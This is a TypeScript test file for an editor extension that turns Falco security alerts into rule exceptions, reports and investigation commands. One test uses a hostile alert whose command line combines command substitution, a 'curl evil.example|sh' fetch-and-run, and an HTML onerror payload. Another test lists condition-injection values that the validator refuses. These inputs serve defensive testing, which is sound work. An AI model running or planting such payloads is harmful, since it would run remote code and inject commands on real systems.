import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import { parseDocument } from 'yaml';
import { TextDocument } from 'vscode-languageserver-textdocument';
import { DiagnosticSeverity, type CodeAction, type TextDocumentEdit, type WorkspaceEdit } from 'vscode-languageserver-types';
import { GENERATE_REPORT_COMMAND, createAlertsService } from '../../server/src/service/alerts';
import { createRulesService } from '../../server/src/service/rules';
import { planException, isSafeExceptionValue, type ExceptionProposal, EXCEPTION_SHAPES } from '../../server/src/service/alerts/tuning';
import { COPY_TO_CLIPBOARD_COMMAND, SHOW_MARKDOWN_COMMAND } from '../../server/src/protocol';
import { pathToUri } from '../../server/src/service/uri';
import { TestHost, alertDoc, fakeRules, fixture, ruleSummaries, hostileProblems, corpusExists, STABLE_RULES } from '../fixtures/alerts/helpers';

const LOCAL = '/work/ws/falco_rules.local.yaml';

/** A host whose files come from memory first, then from disk (the corpus rules). */
class DiskHost extends TestHost {
  override readFile(p: string) { return this.files.get(p) ?? (fs.existsSync(p) ? fs.readFileSync(p, 'utf8') : undefined); }
}

function apply(text: string, edit: WorkspaceEdit): string {
  const change = edit.documentChanges!.find((c) => 'edits' in c) as TextDocumentEdit;
  const doc = TextDocument.create('file:///x', 'yaml', 1, text);
  return TextDocument.applyEdits(doc, change.edits as { range: never; newText: string }[]);
}

/** The fixture's ln alert has the parent bash, a shell: no process + parent exception then (alerts-leftovers-s8). These
 *  tests of the exception's writing give it a parent of its own, make. */
const withMakeParent = (json: string) => json.replace(/parent=bash/g, 'parent=make').replace(/"proc\.pname":"bash"/g, '"proc.pname":"make"');

function actionsFor(s: ReturnType<typeof createAlertsService>, name: string, text: string, line: number): CodeAction[] {
  return s.codeActions!(alertDoc(name, text), { start: { line, character: 0 }, end: { line, character: 0 } }, { diagnostics: [] });
}

test('"Add exception" writes an override that the rules service validates with zero errors and that matches exactly this alert', { skip: !corpusExists && 'corpus absent' }, () => {
  const host = new DiskHost();
  host.config = { ...host.config, rules: { ...host.config.rules, files: [STABLE_RULES] } };
  const rules = createRulesService(host);
  const s = createAlertsService(host, rules);
  const json = withMakeParent(fixture('falco-0.44.json'));
  const actions = actionsFor(s, 'a.json', json, 1);
  const add = actions.filter((a) => a.title.startsWith('Add exception'));
  assert.ok(add.length >= 2, actions.map((a) => a.title).join('\n'));
  // The alert has the executable's path (/usr/bin/ln): with the process name, it keys the process.
  // The alert's user first (session 24): the same program under the same parent run by another user is not covered.
  const parent = add.find((a) => a.title.includes('executable path + process name + parent + user'))!;
  assert.equal(parent.title, 'Add exception for this executable path + process name + parent + user (/usr/bin/ln, ln, make, root, -1) to falco_rules.local.yaml');
  assert.ok(add.some((a) => a.title === 'Add exception for this executable path + process name + parent, any user (/usr/bin/ln, ln, make) to falco_rules.local.yaml'));
  assert.ok(!add.some((a) => a.title.includes('process + parent')), 'the same pair is not offered twice');
  const changes = parent.edit!.documentChanges!;
  assert.deepEqual(changes[0], { kind: 'create', uri: pathToUri(LOCAL), options: { ignoreIfExists: true } });
  const once = apply('', parent.edit!);
  const errors = rules.validateText(pathToUri(LOCAL), once).filter((d) => d.severity === DiagnosticSeverity.Error);
  assert.deepEqual(errors.map((d) => d.message), []);
  const items = parseDocument(once).toJSON();
  assert.deepEqual(items, [{
    rule: 'Create Symlink Over Sensitive Files',
    exceptions: [{
      name: 'falco_lens_proc_exepath_and_proc_name_and_proc_pname_and_user_name_and_user_loginuid', fields: ['proc.exepath', 'proc.name', 'proc.pname', 'user.name', 'user.loginuid'],
      comps: ['=', '=', '=', '=', '='], values: [['/usr/bin/ln', 'ln', 'make', 'root', '-1']],
    }],
    override: { exceptions: 'append' },
  }]);
  // Applying the same fix again changes nothing: the action is no longer offered.
  host.files.set(LOCAL, once);
  assert.match(once, /^# Keyed by proc\.exepath and proc\.name: /m);
  const again = actionsFor(s, 'a.json', json, 1).filter((a) => a.title.includes('executable path + process name + parent + user'));
  assert.deepEqual(again, []);
  // Another exception of the same rule is merged into the existing override item.
  const file = actionsFor(s, 'a.json', json, 1).find((a) => a.title.includes('link target + link path + executable path + process name, any user'))!;
  const twice = apply(once, file.edit!);
  assert.ok(twice.startsWith(once.slice(0, once.indexOf('  override:'))), 'existing content kept');
  const merged = parseDocument(twice).toJSON();
  assert.equal(merged.length, 1);
  assert.deepEqual(merged[0].exceptions.map((e: { name: string }) => e.name), ['falco_lens_proc_exepath_and_proc_name_and_proc_pname_and_user_name_and_user_loginuid', 'falco_lens_evt_arg_target_and_evt_arg_linkpath_and_proc_exepath_and_proc_name']);
  assert.deepEqual(rules.validateText(pathToUri(LOCAL), twice).filter((d) => d.severity === DiagnosticSeverity.Error).map((d) => d.message), []);
});

test('the same exception for another alert appends a values row to the existing exception', () => {
  const proposal = (values: string[]): ExceptionProposal => ({ rule: 'R', shape: EXCEPTION_SHAPES.find((shape) => shape.label === 'process + parent, any user')!, name: 'falco_lens_proc_name_and_proc_pname', values });
  const first = planException('', proposal(['ln', 'bash']));
  assert.equal(first.kind, 'insert');
  const text = first.kind === 'insert' ? first.insertion.text : '';
  const second = planException(text, proposal(['cp', 'sh']));
  assert.equal(second.kind, 'insert');
  const after = second.kind === 'insert' ? text.slice(0, second.insertion.offset) + second.insertion.text + text.slice(second.insertion.offset) : '';
  assert.deepEqual(parseDocument(after).toJSON()[0].exceptions[0].values, [['ln', 'bash'], ['cp', 'sh']]);
  assert.equal(planException(after, proposal(['cp', 'sh'])).kind, 'present');
  // Values are YAML-quoted: quotes and colons survive a round trip.
  const odd = planException('', { ...proposal(['a: b #c', 'x']) });
  assert.deepEqual(parseDocument(odd.kind === 'insert' ? odd.insertion.text : '').toJSON()[0].exceptions[0].values, [['a: b #c', 'x']]);
});

test('values that Falco would splice unescaped into the condition are refused', () => {
  for (const bad of ['x" or proc.name exists or "', "it's", 'a,b', 'f(x)', 'back\\slash', ' lead', '']) assert.equal(isSafeExceptionValue(bad), false, bad);
  for (const good of ['/usr/bin/ln', 'docker.io/library/nginx', 'my proc', 'name:tag']) assert.equal(isSafeExceptionValue(good), true, good);
});

test('"Disable rule" is offered as the last resort, once; playbook, investigation command and report are commands', { skip: !corpusExists && 'corpus absent' }, () => {
  const host = new TestHost();
  const s = createAlertsService(host, fakeRules(ruleSummaries(STABLE_RULES)));
  const json = fixture('falco-0.44.json');
  const actions = actionsFor(s, 'a.json', json, 0);
  const disable = actions.find((a) => a.title.startsWith('Disable rule'))!;
  assert.match(disable.title, /last resort/);
  const text = apply('', disable.edit!);
  assert.deepEqual(parseDocument(text).toJSON(), [{ rule: 'Drop and execute new binary in container', enabled: false, override: { enabled: 'replace' } }]);
  host.files.set(LOCAL, text);
  assert.equal(actionsFor(s, 'a.json', json, 0).filter((a) => a.title.startsWith('Disable rule')).length, 0);
  const playbook = actions.find((a) => a.title.startsWith('Open playbook'));
  if (playbook) {
    assert.equal(playbook.command!.command, SHOW_MARKDOWN_COMMAND);
    assert.match(String(playbook.command!.arguments![0]), /^# Playbook: /);
  }
  const copy = actions.find((a) => a.title === 'Copy investigation command');
  if (copy) {
    assert.equal(copy.command!.command, COPY_TO_CLIPBOARD_COMMAND);
    assert.equal(copy.command!.arguments![1], 'investigation command');
  }
  // The report is built when its command runs (the client sends REPORT_REQUEST with these arguments), not per request.
  const report = actions.find((a) => a.title === 'Generate incident report for this alert')!;
  assert.equal(report.command!.command, GENERATE_REPORT_COMMAND);
  const [uri, start, end] = report.command!.arguments as [string, number, number];
  assert.deepEqual([uri, start, end], [alertDoc('a.json', json).uri, 0, 0]);
  assert.match(s.report(json, uri, { start, end }), /^# Falco incident report\n\n1 alert from/);
  const selection = s.codeActions!(alertDoc('a.json', json), { start: { line: 0, character: 0 }, end: { line: 2, character: 5 } }, { diagnostics: [] });
  const three = selection.find((a) => a.title === 'Generate incident report for the 3 selected alerts')!;
  assert.deepEqual(three.command!.arguments, [alertDoc('a.json', json).uri, 0, 2]);
  assert.match(s.report(json, uri, { start: 0, end: 2 }), /^# Falco incident report\n\n3 alerts from/);
});

test('a hostile alert gives inert, one-line code-action titles and single-quoted shell commands', () => {
  // Without the corpus, a stand-in rule whose output template renders the fixture's text line.
  const rules = corpusExists ? ruleSummaries(STABLE_RULES) : [{
    name: 'Create Symlink Over Sensitive Files', source: 'syscall', tags: [], enabled: true,
    output: 'Symlinks created over sensitive files | target=%evt.arg.target linkpath=%evt.arg.linkpath evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty',
  }];
  const s = createAlertsService(new TestHost(), fakeRules(rules));
  const text = fixture('falco-hostile.log');
  for (const line of [0, 1]) {
    const actions = actionsFor(s, 'h.log', text, line);
    assert.ok(actions.length >= 2);
    for (const a of actions) {
      // Tuning titles are cut at 200 characters (alerts/index.ts TUNING_TITLE), the others at 160.
      assert.ok(!/[\r\n]/.test(a.title) && !a.title.includes('$(') && a.title.length <= 200, a.title);
      if (a.command?.command === SHOW_MARKDOWN_COMMAND) assert.deepEqual(hostileProblems(String(a.command.arguments![0])), []);
      if (a.command?.command === GENERATE_REPORT_COMMAND) {
        const [uri, start, end] = a.command.arguments as [string, number, number];
        assert.deepEqual(hostileProblems(s.report(text, uri, { start, end })), []);
      }
      if (a.command?.command === COPY_TO_CLIPBOARD_COMMAND) {
        const script = String(a.command.arguments![0]);
        assert.ok(!script.includes('$(curl') || script.includes("'sh -c [x](command:falcoLens.evil) <img src=x onerror=alert(1)> `id` $(curl evil.example|sh) | tee /tmp/o'"), script);
      }
      if (a.edit) {
        const yaml = apply('', a.edit);
        assert.ok(!yaml.includes('$(curl'), 'the hostile command line is never written into an exception');
      }
    }
  }
});

test('the local rules file open in the editor is read from its buffer (unsaved edits), not from the disk', { skip: !corpusExists && 'corpus absent' }, () => {
  const host = new DiskHost();
  host.config = { ...host.config, rules: { ...host.config.rules, files: [STABLE_RULES] } };
  const rules = createRulesService(host);
  const s = createAlertsService(host, rules);
  const json = withMakeParent(fixture('falco-0.44.json'));
  const onDisk = '# saved\n';
  host.files.set(LOCAL, onDisk);
  const unsaved = '# saved\n\n- macro: my_unsaved_macro\n  condition: proc.name = x\n';
  rules.didOpenOrChange!(TextDocument.create(pathToUri(LOCAL), 'falco-rules', 2, unsaved));
  assert.equal(rules.documentText!(pathToUri(LOCAL)), unsaved);
  const parent = () => actionsFor(s, 'a.json', json, 1).find((a) => a.title.includes('executable path + process name + parent + user'));
  const edit = parent()!.edit!;
  const change = edit.documentChanges!.find((c) => 'edits' in c) as TextDocumentEdit;
  assert.deepEqual(change.edits[0].range.start, { line: 4, character: 0 }, 'inserted at the end of the buffer, not of the saved file');
  const applied = apply(unsaved, edit);
  assert.ok(applied.startsWith(unsaved));
  assert.equal(parseDocument(applied).toJSON().length, 2);
  // With the exception in the buffer (still unsaved), the fix is no longer offered; closing the editor goes back to the disk.
  rules.didOpenOrChange!(TextDocument.create(pathToUri(LOCAL), 'falco-rules', 3, applied));
  assert.equal(parent(), undefined);
  rules.didClose!(pathToUri(LOCAL));
  assert.equal(rules.documentText!(pathToUri(LOCAL)), undefined);
  const fromDisk = parent()!.edit!.documentChanges!.find((c) => 'edits' in c) as TextDocumentEdit;
  assert.deepEqual(fromDisk.edits[0].range.start, { line: 1, character: 0 });
});
